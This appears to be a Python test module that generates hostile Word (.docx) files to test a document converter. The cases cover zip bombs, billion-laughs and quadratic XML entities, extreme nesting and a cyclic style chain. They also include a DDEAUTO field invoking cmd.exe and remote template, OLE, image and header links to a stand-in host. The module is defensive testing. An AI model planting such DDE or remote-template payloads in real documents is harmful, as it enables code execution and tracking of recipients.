"""Word files that would hurt: the same containers and XML, and what only Word has."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache

from converters.word.write import write
from tests.bad.model import Case
from tests.bad.workbooks import FORM, rezip, swollen
from tests.bad.xml_parts import LAUGHS, QUADRATIC
from tests.builders import sound

MAIN, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
_REMOTE = (
    b'<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="http://192.0.2.1/evil" TargetMode="External"/></Relationships>'
)


@cache
def document() -> bytes:
    """A report without findings, as a Word file."""
    return write(sound(FORM))


def body(more: str) -> bytes:
    """The file with more at the end of its text."""
    return rezip(document(), {MAIN: lambda t: t.replace(b"<w:sectPr", more.encode() + b"<w:sectPr", 1)})


def cases() -> Iterator[Case]:
    """All of them."""
    yield Case("docx", "只剩一半", "cut in half", lambda: document()[: len(document()) // 2], ".docx")
    yield Case("docx", "没有正文部件", "no part with the text", lambda: rezip(document(), drop=(MAIN,)), ".docx")
    yield Case("docx", "解压成 100 MB", "unpacks to 100 MB", lambda: swollen(document(), "word/big.xml", 100), ".docx")
    yield Case(
        "docx",
        "图片部件解压成 100 MB（从不解压）",
        "a picture unpacks to 100 MB (never unpacked)",
        lambda: swollen(document(), "word/media/a.png", 100),
        ".docx",
    )
    for zh, en, dtd in (("十亿笑", "billion laughs", LAUGHS), ("二次方实体", "quadratic entity", QUADRATIC)):
        yield Case(
            "docx",
            zh,
            en,
            lambda dtd=dtd: rezip(
                document(), {MAIN: lambda t: t.replace(b"<w:document", dtd.encode() + b"<w:document", 1)}
            ),
            ".docx",
        )
    for zh, en, more in (
        ("表格嵌套 1000 层", "tables 1,000 deep", "<w:tbl><w:tr><w:tc>" * 1000 + "</w:tc></w:tr></w:tbl>" * 1000),
        ("修订嵌套 10 万层", "changes 100,000 deep", "<w:ins>" * 100_000 + "</w:ins>" * 100_000),
        (
            "gridSpan 10 亿",
            "gridSpan 1e9",
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        ),
        (
            "gridSpan 5000 位",
            "gridSpan of 5,000 digits",
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{"9" * 5000}"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        ),
        (
            "gridSpan -1",
            "gridSpan -1",
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-1"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        ),
        ("20 万个空段落", "200,000 empty paragraphs", "<w:p/>" * 200_000),
        ("一段 10 MB", "a paragraph of 10 MB", "<w:p><w:r><w:t>" + "a" * 10_000_000 + "</w:t></w:r></w:p>"),
        ("嵌入另一份文件（altChunk）", "another file embedded (altChunk)", '<w:altChunk r:id="rId99" xmlns:r="x"/>'),
        (
            "域命令 DDEAUTO",
            "a field DDEAUTO",
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
        (
            "域命令 INCLUDETEXT",
            "a field INCLUDETEXT",
            '<w:p><w:fldSimple w:instr="INCLUDETEXT http://192.0.2.1/a.docx"/></w:p>',
        ),
    ):
        yield Case("docx", zh, en, lambda more=more: body(more), ".docx")
    for n, (kind, zh, en) in enumerate(
        (
            ("attachedTemplate", "远程模板", "a remote template"),
            ("image", "远程图片", "a remote picture"),
            ("oleObject", "远程 OLE 对象", "a remote OLE object"),
            ("header", "远程页眉", "a remote header"),
        ),
        900,
    ):
        yield Case(
            "docx",
            zh,
            en,
            lambda n=n, kind=kind: rezip(
                document(), {RELATIONS: lambda t: t.replace(b"</Relationships>", _REMOTE % (n, kind.encode()))}
            ),
            ".docx",
        )
    yield Case(
        "docx", "宏", "macros", lambda: rezip(document(), add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), ".docx"
    )
    yield Case(
        "docx",
        "嵌入对象",
        "an embedded object",
        lambda: rezip(document(), add=[("word/embeddings/oleObject1.bin", b"MZ" * 99)]),
        ".docx",
    )
    yield Case("docx", "样式互相继承成环", "styles that inherit in a ring", _ring, ".docx")
    yield Case(
        "docx",
        "部件互相指向",
        "relations that point at themselves",
        lambda: rezip(document(), {"_rels/.rels": lambda t: t.replace(b"word/document.xml", b"_rels/.rels")}),
        ".docx",
    )


def _ring() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="r{n}"><w:basedOn w:val="r{(n + 1) % 5000}"/></w:style>'
        for n in range(5000)
    )
    changed = rezip(
        document(), {"word/styles.xml": lambda t: t.replace(b"</w:styles>", styles.encode() + b"</w:styles>")}
    )
    more = b'<w:p><w:pPr><w:pStyle w:val="r0"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    return rezip(changed, {MAIN: lambda t: t.replace(b"<w:sectPr", more + b"<w:sectPr", 1)})
